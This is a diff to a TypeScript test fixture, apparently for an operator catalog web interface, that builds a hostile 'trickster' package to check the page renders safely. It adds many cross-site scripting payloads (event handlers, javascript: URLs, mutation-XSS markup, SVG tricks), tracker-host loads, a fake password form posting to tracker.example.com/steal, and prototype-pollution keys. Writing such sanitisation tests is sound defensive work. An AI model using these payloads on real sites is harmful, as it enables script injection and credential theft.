@@ -1,8 +1,8 @@
 /** Hostile content in every place where a catalog may carry text: nothing of it may run or break a page. */
 import { anApi } from '../../build/api';
 import { text } from '../../build/fields';
-import { anOperator } from '../../build/operator';
-import { aChannel, aPackage } from '../../build/package';
+import { anOperator, requiresOneOf } from '../../build/operator';
+import { aChannel, aPackage, deprecated } from '../../build/package';
 
 const WIDE_TABLE = [
   `| ${Array.from({ length: 40 }, (_, column) => `Column ${column + 1}`).join(' | ')} |`,
@@ -19,6 +19,13 @@ const DESCRIPTION = `# <script>alert('heading')</script>Trickster
 <img src="x" onerror="window.tricked = 'onerror'">
 <svg onload="window.tricked = 'svg'"><circle r="9"/></svg>
 <iframe src="https://tracker.example.com/frame"></iframe>
+<p style="background: url(https://tracker.example.com/style.png)" onclick="window.tricked='click'">Styled</p>
+<details open ontoggle="window.tricked='toggle'"><summary>More</summary></details>
+<input autofocus onfocus="window.tricked='focus'">
+<math><mtext></form><form><mglyph><style></math><img src onerror="window.tricked='mutation'">
+<link rel="stylesheet" href="https://tracker.example.com/sheet.css">
+<meta http-equiv="refresh" content="0; url=https://tracker.example.com/">
+<video src="https://tracker.example.com/film.mp4" autoplay></video>
 <style>body { display: none }</style>
 <form action="https://tracker.example.com/steal"><input name="password"><button>Log in again</button></form>
 <a href="javascript:window.tricked='html'">Documentation</a>
@@ -48,9 +55,17 @@ const ICON = [
   '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" onload="alert(1)">',
   "<script>window.tricked = 'icon'</script>",
   '<image href="http://tracker.example.com/pixel.png" width="1" height="1"/>',
+  '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.tricked=1"/></foreignObject>',
+  '<style>@import url(https://tracker.example.com/icon.css); rect { fill: url(https://tracker.example.com/fill.svg#f) }</style>',
+  '<use href="https://tracker.example.com/sprite.svg#s"/><animate onbegin="parent.tricked=1" attributeName="x" dur="1s"/>',
   '<rect width="64" height="64" rx="14" fill="#e03131"/>',
   '</svg>',
 ].join('');
+
+/** Text that would run if it became markup, in words that tell where it came from. */
+function aTrick(where: string): string {
+  return `<img src=x onerror="window.tricked='${where}'">${where}`;
+}
 
 const operator = anOperator({
   packageName: 'trickster',
@@ -60,6 +75,10 @@ const operator = anOperator({
   description: DESCRIPTION,
   categories: ['<i>Category</i>', 'constructor', '__proto__'],
   keywords: ['<script>', 'toString', ''],
+  maintainers: [
+    { name: aTrick('maintainer'), email: 'a@example.com?body=<script>alert(1)</script>' },
+    { name: 'Mail', email: 'javascript:alert(1)//@example.com' },
+  ],
   icon: ICON,
   apis: [
     anApi({
@@ -89,7 +108,45 @@ const operator = anOperator({
   ],
 });
 
+/** What is well-formed is read further: so is what it hides. */
+const WELL_FORMED = {
+  'alm-examples': `[{
+    "apiVersion": "trickster.example.com/v1",
+    "kind": "Trick",
+    "metadata": { "name": "${aTrick('example').replaceAll('"', '\\"')}", "__proto__": { "tricked": true } },
+    "__proto__": { "tricked": true },
+    "spec": { "constructor": { "prototype": { "tricked": true } } }
+  }]`,
+  'operatorframework.io/initialization-resource': `{
+    "apiVersion": "trickster.example.com/v1",
+    "kind": "Trick",
+    "metadata": { "name": "javascript:alert(1)" },
+    "__proto__": { "tricked": true }
+  }`,
+  'operators.operatorframework.io/internal-objects': '["__proto__", "<script>alert(1)</script>"]',
+  'operators.openshift.io/valid-subscription': JSON.stringify([aTrick('subscription')]),
+  'operatorframework.io/suggested-namespace-template': JSON.stringify({
+    kind: 'Namespace',
+    metadata: { name: 'tricks', annotations: { hostile: aTrick('template') } },
+  }),
+  'operator.openshift.io/uninstall-message': aTrick('farewell'),
+  'olm.properties': JSON.stringify([requiresOneOf(aTrick('constraint'), { nobody: '>=1.0.0' })]),
+  'console.openshift.io/plugins': JSON.stringify(['evil', aTrick('plugin')]),
+};
+
+/** Names of channels are shown, and go into URLs. */
+const CHANNEL = '"><svg onload=alert(1)>';
+
 export const trickster = aPackage(operator, {
-  channels: [aChannel('stable', '6.6.6')],
-  releases: [{ version: '6.6.6', createdAt: '2026-04-01' }],
+  channels: [aChannel('stable', '6.6.6'), aChannel(CHANNEL, '6.5.0', '6.6.5')],
+  releases: [
+    { version: '6.6.6', createdAt: '2026-04-01' },
+    { version: '6.6.5', createdAt: '2026-03-01', changes: { annotations: WELL_FORMED } },
+    { version: '6.5.0', createdAt: '2026-02-01', changes: { annotations: WELL_FORMED } },
+  ],
+  deprecations: [
+    deprecated('package', aTrick('deprecated package')),
+    deprecated({ channel: CHANNEL }, aTrick('deprecated channel')),
+    deprecated({ bundle: 'trickster.v6.5.0' }, aTrick('deprecated version')),
+  ],
 });
